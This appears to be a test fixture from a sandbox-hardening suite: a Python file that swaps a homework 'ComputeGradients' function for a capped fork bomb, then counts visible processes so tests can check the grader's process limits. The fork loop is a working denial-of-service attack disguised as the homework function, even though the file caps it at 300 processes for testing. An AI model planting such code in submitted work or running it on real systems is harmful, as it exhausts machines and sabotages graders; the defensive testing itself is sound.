"""Attack `fork_bomb`: the hw2_affine reference with ComputeGradients replaced by the attack.

A libc fork() loop: every process keeps forking for a few seconds (with a
short pause, so the test stays quick, and never past 300 processes); the
first one counts the processes it can see once the bomb has had time to grow.

Graded by tests/integration/test_attacks.py, which fills in the @...@ placeholders.
"""
@HONEST@
@TOOLKIT@
def wrong_answer(L):
    """Right shapes, wrong values: what the attacked function returns when the attack fails."""
    import numpy as np

    return [(np.zeros(np.shape(W)), np.zeros((np.shape(W)[0], 1))) for W, _ in L]


def ComputeGradients(L, x, z):
    if AS_ROOT or not once("bomb"):  # root has no process limit: a real bomb
        return None
    if libc.fork() == 0:
        name_me()
        started, first, failures, counted = time.monotonic(), os.getpid(), 0, False
        while time.monotonic() - started < 4:
            # Holds back past 300 processes, where a real bomb would not: a namespace without a process cap
            # (a grader that is not root has neither its own uid nor a cgroup) must not take the machine down.
            if sum(name.isdigit() for name in os.listdir("/proc")) < 300 and libc.fork() < 0:
                failures += 1
            time.sleep(0.01)
            if os.getpid() == first and not counted and time.monotonic() - started > 0.4:
                counted = True
                say("PROCESSES", sum(name.isdigit() for name in os.listdir("/proc")), "failed forks", failures)
        os._exit(0)
    time.sleep(0.8)
    return None
